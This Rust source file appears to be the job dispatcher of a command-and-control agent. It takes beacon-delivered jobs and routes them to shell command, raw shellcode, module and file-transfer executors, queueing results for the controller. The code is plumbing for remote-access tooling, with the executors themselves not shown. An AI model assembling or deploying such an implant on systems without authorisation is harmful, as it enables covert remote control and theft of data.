//! Concurrent job engine.
//!
//! Jobs flow through two bounded queues: `submit` pushes accepted work onto
//! the inbound queue, a long-lived dispatcher fans each job out to its own
//! task under a concurrency ceiling, and finished artifacts land on the
//! outbound queue until the controller drains them at the next beacon. Both
//! queues apply backpressure by suspending the sender, never by dropping.
//!
//! Every executed job produces exactly one artifact carrying the original
//! `agent_id`, `id` and `token` so the server can correlate it.

use std::sync::Arc;

use tokio::sync::{mpsc, Mutex, Semaphore};
use tracing::{debug, error, warn};
use waypost_protocol::{Job, JobPayload, TaskResult};

use crate::commands::{self, modules, shell, transfer};

pub struct JobEngine {
    agent_id: uuid::Uuid,
    jobs_in: mpsc::Sender<Job>,
    results_tx: mpsc::Sender<Job>,
    results_rx: Mutex<mpsc::Receiver<Job>>,
}

impl JobEngine {
    /// Start the engine: bounded in/out queues of `queue_capacity` and a
    /// dispatcher that runs at most `max_tasks` jobs concurrently.
    pub fn spawn(agent_id: uuid::Uuid, queue_capacity: usize, max_tasks: usize) -> Arc<Self> {
        let (jobs_in, jobs_rx) = mpsc::channel(queue_capacity);
        let (results_tx, results_rx) = mpsc::channel(queue_capacity);

        tokio::spawn(dispatch(jobs_rx, results_tx.clone(), max_tasks));

        Arc::new(Self {
            agent_id,
            jobs_in,
            results_tx,
            results_rx: Mutex::new(results_rx),
        })
    }

    /// Route one incoming job. Executable payloads go to the dispatcher;
    /// control directives come back to the caller for synchronous handling;
    /// jobs addressed to another agent are dropped.
    pub async fn submit(&self, job: Job) -> Option<Job> {
        if job.agent_id != self.agent_id {
            debug!(job_id = %job.id, agent_id = %job.agent_id, "dropping job for another agent");
            return None;
        }

        match &job.payload {
            JobPayload::Command(_)
            | JobPayload::Module(_)
            | JobPayload::Native(_)
            | JobPayload::Shellcode(_)
            | JobPayload::FileTransfer(_) => {
                if self.jobs_in.send(job).await.is_err() {
                    error!("job queue closed; dispatcher is gone");
                }
                None
            }
            JobPayload::Control(_) => Some(job),
            // Artifact payloads are never executed. Anything the server sends
            // with these tags, plus our own produced artifacts, goes straight
            // to the outbound queue.
            JobPayload::AgentInfo(_) | JobPayload::Result(_) => {
                if self.results_tx.send(job).await.is_err() {
                    error!("result queue closed");
                }
                None
            }
            JobPayload::Unknown(_) => {
                let kind = job.payload.kind();
                warn!(job_id = %job.id, kind = %kind, "rejecting job with unknown type");
                let rejection = Job {
                    agent_id: self.agent_id,
                    id: job.id,
                    token: job.token,
                    payload: JobPayload::Result(TaskResult {
                        stderr: format!("{} is not a valid job type", kind),
                        ..Default::default()
                    }),
                };
                if self.results_tx.send(rejection).await.is_err() {
                    error!("result queue closed");
                }
                None
            }
        }
    }

    /// Submit a batch, returning the control jobs the caller must handle.
    pub async fn submit_all(&self, jobs: Vec<Job>) -> Vec<Job> {
        let mut control = Vec::new();
        for job in jobs {
            if let Some(job) = self.submit(job).await {
                control.push(job);
            }
        }
        control
    }

    /// Put drained artifacts back on the outbound queue after a failed
    /// beacon, verbatim and unexecuted.
    pub async fn requeue(&self, artifacts: Vec<Job>) {
        for job in artifacts {
            if self.results_tx.send(job).await.is_err() {
                error!("result queue closed; artifact lost");
            }
        }
    }

    /// Sweep every finished artifact off the outbound queue without waiting
    /// for in-flight jobs.
    pub async fn drain(&self) -> Vec<Job> {
        let mut rx = self.results_rx.lock().await;
        let mut artifacts = Vec::new();
        while let Ok(job) = rx.try_recv() {
            artifacts.push(job);
        }
        artifacts
    }
}

/// Dispatcher loop: one spawned task per job, bounded by a semaphore.
async fn dispatch(mut jobs_rx: mpsc::Receiver<Job>, results_tx: mpsc::Sender<Job>, max_tasks: usize) {
    let limiter = Arc::new(Semaphore::new(max_tasks));

    while let Some(job) = jobs_rx.recv().await {
        let Ok(permit) = limiter.clone().acquire_owned().await else {
            // Closed semaphore means shutdown.
            return;
        };
        let results = results_tx.clone();
        tokio::spawn(async move {
            let artifact = execute(job).await;
            drop(permit);
            if results.send(artifact).await.is_err() {
                error!("result queue closed; artifact lost");
            }
        });
    }
    debug!("job queue closed; dispatcher exiting");
}

/// Run one job to completion, producing its artifact.
async fn execute(job: Job) -> Job {
    let Job {
        agent_id,
        id,
        token,
        payload,
    } = job;
    debug!(job_id = %id, kind = %payload.kind(), "executing job");

    let payload = match payload {
        JobPayload::Command(req) => JobPayload::Result(shell::execute(&req).await),
        JobPayload::Native(req) => JobPayload::Result(shell::native(&req).await),
        JobPayload::Module(req) => match modules::run(&req).await {
            modules::ModuleOutcome::Output(result) => JobPayload::Result(result),
            modules::ModuleOutcome::Artifact(ft) => JobPayload::FileTransfer(ft),
        },
        JobPayload::Shellcode(req) => JobPayload::Result(commands::shellcode(&req)),
        JobPayload::FileTransfer(ft) => {
            if ft.is_download {
                JobPayload::Result(transfer::download(&ft).await)
            } else {
                match transfer::upload(&ft).await {
                    Ok(artifact) => JobPayload::FileTransfer(artifact),
                    Err(err) => JobPayload::Result(TaskResult {
                        stderr: format!("{:#}", err),
                        ..Default::default()
                    }),
                }
            }
        }
        // submit() never routes these here.
        other => JobPayload::Result(TaskResult {
            stderr: format!("{} is not a valid job type", other.kind()),
            ..Default::default()
        }),
    };

    Job {
        agent_id,
        id,
        token,
        payload,
    }
}
